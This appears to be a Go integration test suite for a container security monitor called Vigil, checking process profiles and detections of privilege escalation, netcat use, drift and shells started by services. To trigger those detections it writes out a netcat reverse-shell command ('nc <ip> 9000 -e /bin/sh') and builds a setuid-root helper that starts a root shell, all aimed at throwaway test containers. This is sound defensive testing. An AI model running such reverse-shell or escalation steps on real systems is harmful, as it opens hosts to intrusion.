//go:build integration

package integration

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moby/moby/client"

	"github.com/vigil-sec/vigil/internal/controller"
	"github.com/vigil-sec/vigil/test/testenv"
)

// Process security on real containers: profiles in each mode and the detections. The
// checks read what Vigil reports through the API and compare it with what the test did.

// processEvents lists the events of one type about one container.
func processEvents(t *testing.T, v *vigilProc, typ, containerID string) []controller.Event {
	t.Helper()
	q := url.Values{}
	q.Set("type", typ)
	evs, err := v.Client.Events(context.Background(), q)
	if err != nil {
		t.Fatalf("list %s events: %v", typ, err)
	}
	var out []controller.Event
	for _, e := range evs {
		if c, _ := e.Detail["container"].(string); c == containerID {
			out = append(out, e)
		}
	}
	return out
}

// processDetail reads the process of an event's detail.
func processDetail(e controller.Event) (comm, exe string) {
	p, _ := e.Detail["process"].(map[string]any)
	comm, _ = p["comm"].(string)
	exe, _ = p["exe"].(string)
	return comm, exe
}

// waitEvent waits up to timeout for an event of typ about c for which match holds.
func waitEvent(t *testing.T, v *vigilProc, typ string, c testenv.Container, timeout time.Duration, match func(controller.Event) bool) controller.Event {
	t.Helper()
	var found controller.Event
	eventually(t, timeout, fmt.Sprintf("a %s event about %s", typ, c.Name), func() (bool, string) {
		evs := processEvents(t, v, typ, c.ID)
		for _, e := range evs {
			if match(e) {
				found = e
				return true, ""
			}
		}
		return false, fmt.Sprintf("%d %s events about it: %v", len(evs), typ, summaries(evs))
	})
	return found
}

func summaries(evs []controller.Event) []string {
	var s []string
	for _, e := range evs {
		s = append(s, e.Summary)
	}
	return s
}

// waitKnown waits until Vigil's process tree holds the container's processes, so that
// it is registered and its profile is being learned.
func waitKnown(t *testing.T, v *vigilProc, c testenv.Container) {
	t.Helper()
	eventually(t, 10*time.Second, "the process tree of "+c.Name, func() (bool, string) {
		list, err := v.Client.Processes(context.Background(), c.ID)
		if err != nil {
			return false, err.Error()
		}
		for _, p := range list {
			if p.Workload == c.Name && p.Group != "" {
				return true, ""
			}
		}
		return false, fmt.Sprintf("%d processes", len(list))
	})
}

// logProcessStats logs Vigil's process counters when the test has failed: lost and
// unread events explain a missing observation.
func logProcessStats(t *testing.T, v *vigilProc) {
	t.Cleanup(func() {
		if !t.Failed() {
			return
		}
		st, err := v.Client.ProcessStats(context.Background())
		t.Logf("process stats: %+v (err %v)", st, err)
	})
}

func setMode(t *testing.T, v *vigilProc, group, mode string) {
	t.Helper()
	if err := v.Client.SetMode(context.Background(), group, mode); err != nil {
		t.Fatalf("set %s to %s: %v", group, mode, err)
	}
}

func TestProcessProfiles(t *testing.T) {
	d := testenv.NewDocker(t)
	v := startVigil(t)
	logProcessStats(t, v)
	group := "vigil." + testenv.RandomName("proc")
	c := d.Run(t, testenv.ContainerSpec{Labels: map[string]string{"vigil.group": strings.TrimPrefix(group, "vigil.")},
		Cmd: []string{"httpd", "-f", "-p", "8080"}})
	waitKnown(t, v, c)

	// Discover: the container's usual processes are learned, and nothing is reported.
	normal := [][]string{{"sh", "-c", "echo ready; cat /etc/hostname"}, {"ls", "/"}}
	// A service's usual processes recur: run them a few times, as Discover would see
	// them over hours. A program that exits within a millisecond can be gone before its
	// exec is read (MonitorStats.Unread); one of the runs is enough to learn it.
	for range 5 {
		for _, cmd := range normal {
			d.Exec(t, c.ID, cmd...)
		}
	}
	eventually(t, 5*time.Second, "the profile to hold sh, cat, ls and httpd", func() (bool, string) {
		p, err := v.Client.Profile(context.Background(), group)
		if err != nil {
			return false, err.Error()
		}
		have := map[string]bool{}
		for _, e := range p.Entries {
			have[e.Name] = e.Exe == "/bin/busybox" && e.UID == 0
		}
		return have["sh"] && have["cat"] && have["ls"] && have["httpd"], fmt.Sprintf("%+v", p.Entries)
	})
	for _, typ := range []string{controller.EventProcess, controller.EventEscalation, controller.EventSuspicious,
		controller.EventReverseShell, controller.EventShellFromService, controller.EventDrift} {
		if evs := processEvents(t, v, typ, c.ID); len(evs) > 0 {
			t.Errorf("discover with the usual processes raised %s events: %v", typ, summaries(evs))
		}
	}

	// Monitor: the same processes pass; a new one is a violation that names it.
	setMode(t, v, group, "monitor")
	for _, cmd := range normal {
		d.Exec(t, c.ID, cmd...)
	}
	// (It lives a moment: see the note on Unread above.)
	d.Exec(t, c.ID, "timeout", "1", "sleep", "0.3")
	e := waitEvent(t, v, controller.EventProcess, c, 3*time.Second, func(e controller.Event) bool {
		comm, _ := processDetail(e)
		return comm == "timeout" || comm == "sleep" // busybox's timeout execs its command in place
	})
	if comm, _ := processDetail(e); e.Detail["verdict"] != "violate" || !strings.Contains(e.Summary, comm) {
		t.Errorf("monitor violation: %+v", e)
	}
	for _, ev := range processEvents(t, v, controller.EventProcess, c.ID) {
		if comm, _ := processDetail(ev); comm == "sh" || comm == "cat" || comm == "ls" {
			t.Errorf("a profiled process was reported: %s", ev.Summary)
		}
	}

	// Protect: a process outside the profile does not run to its end.
	setMode(t, v, group, "protect")
	start := time.Now()
	out, code, err := d.ExecResult(c.ID, "sleep", "30")
	if err != nil {
		t.Fatal(err)
	}
	if code == 0 || time.Since(start) > 10*time.Second {
		t.Fatalf("sleep 30 in protect mode: exit code %d after %v (%s); want it stopped at once", code, time.Since(start), out)
	}
	e = waitEvent(t, v, controller.EventProcess, c, 3*time.Second, func(e controller.Event) bool {
		comm, _ := processDetail(e)
		return comm == "sleep" && e.Detail["verdict"] == "deny"
	})
	if a, _ := e.Detail["action"].(string); a != "killed" && a != "refused" {
		t.Errorf("protect event action %q, want killed or refused: %+v", a, e)
	}
	// A profiled process still runs.
	if got := d.Exec(t, c.ID, "cat", "/etc/hostname"); strings.TrimSpace(got) == "" {
		t.Error("cat of the profile did not run in protect mode")
	}

	// The profile is in the policy export.
	out2, err := execVigil("--server", v.URL, "--token-file", v.TokenFile, "policy", "export")
	if err != nil {
		t.Fatalf("policy export: %v: %s", err, out2)
	}
	if !strings.Contains(out2, "kind: ProcessProfiles") || !strings.Contains(out2, group) {
		t.Errorf("policy export has no process profile of %s:\n%s", group, out2)
	}
	// And in the CLI.
	out3, err := execVigil("--server", v.URL, "--token-file", v.TokenFile, "profile", group)
	if err != nil || !strings.Contains(out3, "httpd") || !strings.Contains(out3, "/bin/busybox") {
		t.Errorf("vigil profile %s: %v:\n%s", group, err, out3)
	}
	out4, err := execVigil("--server", v.URL, "--token-file", v.TokenFile, "processes", c.Name)
	if err != nil || !strings.Contains(out4, "httpd -f -p 8080") {
		t.Errorf("vigil processes %s: %v:\n%s", c.Name, err, out4)
	}
}

// The image with a setuid-root helper, built once.
var (
	setuidOnce  sync.Once
	setuidImage string
	setuidErr   error
)

// ensureSetuidImage builds vigil-test/setuid: the test image plus /usr/local/bin/helper,
// a static Go program installed setuid root that calls setuid(0) and starts a shell.
func ensureSetuidImage(t *testing.T, d *testenv.Docker) string {
	t.Helper()
	setuidOnce.Do(func() { setuidImage, setuidErr = buildSetuidImage(d) })
	if setuidErr != nil {
		t.Fatalf("build the setuid helper image: %v", setuidErr)
	}
	return setuidImage
}

func buildSetuidImage(d *testenv.Docker) (string, error) {
	dir, err := os.MkdirTemp("", "vigil-setuid-")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(dir)
	bin := filepath.Join(dir, "helper")
	cmd := exec.Command("go", "build", "-trimpath", "-o", bin, ".")
	cmd.Dir = "testdata/process/setuidhelper"
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("go build: %v: %s", err, out)
	}
	helper, err := os.ReadFile(bin)
	if err != nil {
		return "", err
	}
	rootfs, err := testenv.BusyboxRootfs()
	if err != nil {
		return "", err
	}
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tr := tar.NewReader(bytes.NewReader(rootfs))
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return "", err
		}
		if err := tw.WriteHeader(h); err != nil {
			return "", err
		}
		if _, err := io.Copy(tw, tr); err != nil {
			return "", err
		}
	}
	for _, h := range []*tar.Header{
		{Typeflag: tar.TypeDir, Name: "usr/local/", Mode: 0o755},
		{Typeflag: tar.TypeDir, Name: "usr/local/bin/", Mode: 0o755},
	} {
		if err := tw.WriteHeader(h); err != nil {
			return "", err
		}
	}
	if err := tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "usr/local/bin/helper", Mode: 0o4755, Uid: 0, Gid: 0,
		Size: int64(len(helper)), ModTime: time.Unix(0, 0)}); err != nil {
		return "", err
	}
	if _, err := tw.Write(helper); err != nil {
		return "", err
	}
	if err := tw.Close(); err != nil {
		return "", err
	}
	const name = "vigil-test/setuid:latest"
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	res, err := d.Client.ImageImport(ctx, client.ImageImportSource{Source: &buf, SourceName: "-"}, name,
		client.ImageImportOptions{Changes: []string{`CMD ["sleep", "3600"]`}})
	if err != nil {
		return "", fmt.Errorf("docker import: %w", err)
	}
	defer res.Close()
	if _, err := io.Copy(io.Discard, res); err != nil {
		return "", err
	}
	return name, nil
}

func TestProcessEscalation(t *testing.T) {
	d := testenv.NewDocker(t)
	img := ensureSetuidImage(t, d)
	v := startVigil(t)
	logProcessStats(t, v)
	c := d.Run(t, testenv.ContainerSpec{Image: img, User: "1000"})
	waitKnown(t, v, c)
	// Run from a shell of user 1000, so that the helper's parent is not root.
	out := d.Exec(t, c.ID, "sh", "-c", "/usr/local/bin/helper 'id -u; sleep 0.3'; echo done")
	if !strings.Contains(out, "0\n") {
		t.Fatalf("the helper did not become root: %q", out)
	}
	// One incident, whose process is the helper or, when Vigil read it after its
	// exec, the shell it became (same PID).
	e := waitEvent(t, v, controller.EventEscalation, c, 3*time.Second, func(e controller.Event) bool {
		_, exe := processDetail(e)
		return exe == "/usr/local/bin/helper" || exe == "/bin/busybox"
	})
	anc, _ := e.Detail["ancestry"].([]any)
	if len(anc) == 0 {
		t.Fatalf("escalation without ancestry: %+v", e)
	}
	parent, _ := anc[0].(map[string]any)
	if parent["comm"] != "sh" || parent["euid"] != float64(1000) {
		t.Errorf("escalation's parent: %+v, want sh running as 1000", parent)
	}
	if e.Severity != "critical" || e.Detail["group"] == "" {
		t.Errorf("escalation event: %+v", e)
	}

	// A shell of user 1000 that stays user 1000 is not an escalation.
	d.Exec(t, c.ID, "sh", "-c", "id -u; cat /etc/passwd >/dev/null")
	if evs := processEvents(t, v, controller.EventEscalation, c.ID); len(evs) != 1 {
		t.Errorf("want one escalation, got %d: %v", len(evs), summaries(evs))
	}
}

func TestProcessDetections(t *testing.T) {
	d := testenv.NewDocker(t)
	v := startVigil(t)
	logProcessStats(t, v)
	// The listener holds its side open (its input is a pipe that never ends), as an
	// attacker's would: busybox nc closes the connection when its input ends.
	listener := d.Run(t, testenv.ContainerSpec{Cmd: []string{"sh", "-c", "sleep 3600 | nc -l -p 9000"}})
	victim := d.Run(t, testenv.ContainerSpec{})
	waitKnown(t, v, listener)
	waitKnown(t, v, victim)

	// nc in a container: a suspicious tool.
	waitEvent(t, v, controller.EventSuspicious, listener, 3*time.Second, func(e controller.Event) bool {
		return e.Detail["tool"] == "nc"
	})

	// A shell with its standard input and output on a TCP connection to another
	// container: a reverse shell.
	ip := d.IP(t, listener.ID)
	if _, _, err := d.ExecResult(victim.ID, "sh", "-c", "nc "+ip+" 9000 -e /bin/sh & sleep 0.1"); err != nil {
		t.Fatal(err)
	}
	e := waitEvent(t, v, controller.EventReverseShell, victim, 3*time.Second, func(e controller.Event) bool { return true })
	if e.Detail["remote"] != ip+":9000" || e.Detail["proto"] != "tcp" {
		t.Errorf("reverse shell to %v over %v, want %s:9000 over tcp: %+v", e.Detail["remote"], e.Detail["proto"], ip, e)
	}

	// A file copied into the running container and executed: drift.
	cp := exec.Command("docker", "cp", "/bin/busybox", victim.ID+":/tmp/sleep")
	if out, err := cp.CombinedOutput(); err != nil {
		t.Fatalf("docker cp: %v: %s", err, out)
	}
	d.Exec(t, victim.ID, "/tmp/sleep", "0.2")
	waitEvent(t, v, controller.EventDrift, victim, 3*time.Second, func(e controller.Event) bool {
		_, exe := processDetail(e)
		return exe == "/tmp/sleep"
	})
	// Programs of the image are not drift.
	for _, e := range processEvents(t, v, controller.EventDrift, victim.ID) {
		if _, exe := processDetail(e); exe != "/tmp/sleep" {
			t.Errorf("drift for a file of the image: %s", e.Summary)
		}
	}

	// A shell started by a service: httpd running a CGI script that starts sh.
	web := d.Run(t, testenv.ContainerSpec{Cmd: []string{"sh", "-c",
		"mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\nid\\nsleep 0.2\\n' > /www/cgi-bin/x && chmod +x /www/cgi-bin/x && exec httpd -f -p 8080 -h /www"}})
	waitKnown(t, v, web)
	eventually(t, 5*time.Second, "the CGI to answer", func() (bool, string) {
		out, code, err := d.ExecResult(web.ID, "wget", "-q", "-O", "-", "http://127.0.0.1:8080/cgi-bin/x")
		return err == nil && code == 0 && strings.Contains(out, "uid="), out
	})
	e = waitEvent(t, v, controller.EventShellFromService, web, 3*time.Second, func(e controller.Event) bool { return true })
	if e.Detail["service"] != "httpd" {
		t.Errorf("shell from service: service %v, want httpd: %+v", e.Detail["service"], e)
	}
}

// TestProcessEventsJSON checks the process tree's JSON against /proc read by the test.
func TestProcessTree(t *testing.T) {
	d := testenv.NewDocker(t)
	v := startVigil(t)
	logProcessStats(t, v)
	c := d.Run(t, testenv.ContainerSpec{})
	waitKnown(t, v, c)
	pid := d.Inspect(t, c.ID).State.Pid
	list, err := v.Client.Processes(context.Background(), c.Name)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := json.Marshal(list)
	found := false
	for _, p := range list {
		if p.Container != c.ID {
			t.Errorf("process %d of another container in %s's tree", p.PID, c.Name)
		}
		if p.PID == pid {
			found = true
			stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
			if err != nil {
				t.Fatal(err)
			}
			if p.Comm != strings.TrimSpace(string(stat)) {
				t.Errorf("comm %q, /proc says %q", p.Comm, stat)
			}
		}
	}
	if !found {
		t.Errorf("the container's init %d is not in its tree: %s", pid, raw)
	}
}

// tinyExitELF is a complete static x86-64 Linux program of 127 bytes that calls
// exit(0) at once: the shortest-lived program there is, gone microseconds after its
// exec, long before /proc can be read.
func tinyExitELF() []byte {
	const base, hdr = 0x400000, 64 + 56
	code := []byte{0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05} // mov eax,60; xor edi,edi; syscall
	b := make([]byte, hdr, hdr+len(code))
	le := binary.LittleEndian
	copy(b, []byte{0x7f, 'E', 'L', 'F', 2, 1, 1}) // 64-bit, little-endian, version 1
	le.PutUint16(b[16:], 2)                       // ET_EXEC
	le.PutUint16(b[18:], 62)                      // EM_X86_64
	le.PutUint32(b[20:], 1)
	le.PutUint64(b[24:], base+hdr) // entry
	le.PutUint64(b[32:], 64)       // program headers
	le.PutUint16(b[52:], 64)       // header size
	le.PutUint16(b[54:], 56)       // program header size
	le.PutUint16(b[56:], 1)        // one
	ph := b[64:]
	le.PutUint32(ph[0:], 1) // PT_LOAD
	le.PutUint32(ph[4:], 5) // R+X
	le.PutUint64(ph[16:], base)
	le.PutUint64(ph[24:], base)
	le.PutUint64(ph[32:], uint64(hdr+len(code)))
	le.PutUint64(ph[40:], uint64(hdr+len(code)))
	le.PutUint64(ph[48:], 0x1000)
	return append(b, code...)
}

// buildQuickImage imports vigil-test/quick: the test image plus two copies of
// tinyExitELF, /usr/local/bin/quick and /usr/local/bin/quick2, part of the image (so
// not drift).
func buildQuickImage(t *testing.T, d *testenv.Docker) string {
	t.Helper()
	if runtime.GOARCH != "amd64" {
		t.Fatalf("the short-lived test program is x86-64 machine code; this host is %s", runtime.GOARCH)
	}
	rootfs, err := testenv.BusyboxRootfs()
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tr := tar.NewReader(bytes.NewReader(rootfs))
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(tw, tr); err != nil {
			t.Fatal(err)
		}
	}
	prog := tinyExitELF()
	for _, h := range []*tar.Header{
		{Typeflag: tar.TypeDir, Name: "usr/local/", Mode: 0o755},
		{Typeflag: tar.TypeDir, Name: "usr/local/bin/", Mode: 0o755},
	} {
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"quick", "quick2"} {
		if err := tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "usr/local/bin/" + name, Mode: 0o755,
			Size: int64(len(prog)), ModTime: time.Unix(0, 0)}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(prog); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	const name = "vigil-test/quick:latest"
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	res, err := d.Client.ImageImport(ctx, client.ImageImportSource{Source: &buf, SourceName: "-"}, name,
		client.ImageImportOptions{Changes: []string{`CMD ["sleep", "3600"]`}})
	if err != nil {
		t.Fatalf("docker import: %v", err)
	}
	defer res.Close()
	if _, err := io.Copy(io.Discard, res); err != nil {
		t.Fatal(err)
	}
	return name
}

// A program that exits microseconds after its exec is judged all the same: the file
// guard's exec notification gives the monitor its executable when /proc no longer can.
// In Monitor mode, a burst of a profiled short-lived program raises nothing, and one
// run of another, outside the profile, is a violation naming it.
func TestProcessShortLivedExecs(t *testing.T) {
	d := testenv.NewDocker(t)
	image := buildQuickImage(t, d)
	v := startVigil(t)
	logProcessStats(t, v)
	group := "vigil." + testenv.RandomName("quick")
	c := d.Run(t, testenv.ContainerSpec{Image: image, Labels: map[string]string{"vigil.group": strings.TrimPrefix(group, "vigil.")},
		Cmd: []string{"sleep", "3600"}})
	waitKnown(t, v, c)

	// Discover: quick is learned (once the container is watched, each run is seen).
	eventually(t, 15*time.Second, "the profile to hold /usr/local/bin/quick", func() (bool, string) {
		d.Exec(t, c.ID, "/usr/local/bin/quick")
		p, err := v.Client.Profile(context.Background(), group)
		if err != nil {
			return false, err.Error()
		}
		for _, e := range p.Entries {
			if e.Exe == "/usr/local/bin/quick" && e.Name == "quick" && e.UID == 0 {
				return true, ""
			}
		}
		return false, fmt.Sprintf("%+v", p.Entries)
	})
	if e := processEvents(t, v, controller.EventProcess, c.ID); len(e) > 0 {
		t.Fatalf("discover raised process events: %v", summaries(e))
	}
	before, err := v.Client.ProcessStats(context.Background())
	if err != nil {
		t.Fatal(err)
	}

	setMode(t, v, group, "monitor")
	const burst = 400
	out := d.Exec(t, c.ID, "sh", "-c", fmt.Sprintf(
		"i=0; while [ $i -lt %d ]; do /usr/local/bin/quick; i=$((i+1)); done; /usr/local/bin/quick2; echo done $i", burst))
	if !strings.Contains(out, fmt.Sprintf("done %d", burst)) {
		t.Fatalf("burst: %q", out)
	}
	e := waitEvent(t, v, controller.EventProcess, c, 5*time.Second, func(e controller.Event) bool {
		_, exe := processDetail(e)
		return exe == "/usr/local/bin/quick2"
	})
	if comm, _ := processDetail(e); e.Detail["verdict"] != "violate" || comm != "quick2" || !strings.Contains(e.Summary, "quick2") {
		t.Errorf("violation of quick2: %+v", e)
	}
	for _, ev := range processEvents(t, v, controller.EventProcess, c.ID) {
		if _, exe := processDetail(ev); exe == "/usr/local/bin/quick" {
			t.Errorf("the profiled short-lived program was reported: %s", ev.Summary)
		}
	}
	// The programs were gone before /proc could be read: the notifications judged them.
	after, err := v.Client.ProcessStats(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	recovered := after.Monitor.Recovered - before.Monitor.Recovered
	unread := after.Monitor.Unread - before.Monitor.Unread
	t.Logf("burst of %d: recovered from exec notifications %d, unread %d, notes %+v", burst+1, recovered, unread, after.Monitor.ExecNotes)
	if recovered == 0 {
		t.Errorf("no exec was judged from its notification (unread %d): every one of %d programs exiting at once was read from /proc?", unread, burst+1)
	}
	if unread > burst/20 {
		t.Errorf("%d of %d execs unread, want under 5%%", unread, burst+1)
	}
}

// A burst of a busybox applet that exits at once and is not in the profile: each exec
// is a violation naming the applet, including those gone before /proc could be read
// (their exec notification names only /bin/busybox; the taskstats exit record names
// the applet).
func TestProcessShortLivedAppletNamed(t *testing.T) {
	d := testenv.NewDocker(t)
	image := d.EnsureImage(t)
	v := startVigil(t)
	logProcessStats(t, v)
	group := "vigil." + testenv.RandomName("applet")
	c := d.Run(t, testenv.ContainerSpec{Image: image, Labels: map[string]string{"vigil.group": strings.TrimPrefix(group, "vigil.")},
		Cmd: []string{"sleep", "3600"}})
	waitKnown(t, v, c)

	// Discover: busybox's sleep is learned; true is not.
	eventually(t, 15*time.Second, "the profile to hold busybox's sleep", func() (bool, string) {
		p, err := v.Client.Profile(context.Background(), group)
		if err != nil {
			return false, err.Error()
		}
		for _, e := range p.Entries {
			if e.Exe == "/bin/busybox" && e.Name == "sleep" {
				return true, ""
			}
			if e.Name == "true" {
				t.Fatalf("true learned before it ran: %+v", p.Entries)
			}
		}
		return false, fmt.Sprintf("%+v", p.Entries)
	})
	before, err := v.Client.ProcessStats(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if !before.Monitor.ExitRecords.Enabled {
		t.Fatalf("taskstats exit records are off (see Vigil's log): %+v", before.Monitor.ExitRecords)
	}

	setMode(t, v, group, "monitor")
	const burst = 300
	// Four loops at once, so that the host is busy and some of the programs are gone
	// before /proc can be read.
	out := d.Exec(t, c.ID, "sh", "-c", fmt.Sprintf("for l in 1 2 3 4; do ( i=0; while [ $i -lt %d ]; do /bin/true; i=$((i+1)); done; echo $i ) & done; wait", burst/4))
	if n := strings.Fields(out); len(n) != 4 || n[0] != fmt.Sprint(burst/4) || n[3] != fmt.Sprint(burst/4) {
		t.Fatalf("burst: %q", out)
	}
	// /bin/true, not the shell's builtin: each is an exec of /bin/busybox.
	const execs = burst
	count := func() (named, guessed int) {
		for _, e := range processEvents(t, v, controller.EventProcess, c.ID) {
			comm, exe := processDetail(e)
			n, _ := e.Detail["count"].(float64)
			switch {
			case comm == "true" && exe == "/bin/busybox":
				named += int(n)
			case exe == "/bin/busybox" && slices.Contains(inferredOf(e), "name"):
				guessed += int(n)
				t.Errorf("a violation of busybox not named true: %s", e.Summary)
			}
		}
		return named, guessed
	}
	var after controller.ProcessStats
	eventually(t, 10*time.Second, fmt.Sprintf("%d violations named true", execs), func() (bool, string) {
		named, guessed := count()
		if after, err = v.Client.ProcessStats(context.Background()); err != nil {
			return false, err.Error()
		}
		missed := int(after.Monitor.Unread - before.Monitor.Unread + after.Monitor.Lost - before.Monitor.Lost + after.Monitor.Dropped - before.Monitor.Dropped)
		return named+missed >= execs, fmt.Sprintf("named %d, guessed %d, unread/lost/dropped %d", named, guessed, missed)
	})
	named, _ := count()
	x := after.Monitor.ExitRecords
	bx := before.Monitor.ExitRecords
	t.Logf("%d execs of /bin/true: %d violations named true; recovered from notifications %d, exit records named %d (waited %d, timed out %d, rejected %d, overruns %d); unread %d",
		execs, named, after.Monitor.Recovered-before.Monitor.Recovered, x.Named-bx.Named, x.Waited-bx.Waited, x.TimedOut-bx.TimedOut,
		x.Rejected-bx.Rejected, x.Overruns-bx.Overruns, after.Monitor.Unread-before.Monitor.Unread)
	if named > execs {
		t.Errorf("%d violations for %d execs: counted twice", named, execs)
	}
	if missed := execs - named; missed > execs/20 {
		t.Errorf("%d of %d execs not judged, want under 5%%", missed, execs)
	}
	if x.Records == bx.Records {
		t.Error("no exit record received during the burst")
	}
}

// inferredOf reads the fields of an event's process that were not read from /proc.
func inferredOf(e controller.Event) []string {
	p, _ := e.Detail["process"].(map[string]any)
	l, _ := p["inferred"].([]any)
	var out []string
	for _, f := range l {
		if s, ok := f.(string); ok {
			out = append(out, s)
		}
	}
	return out
}
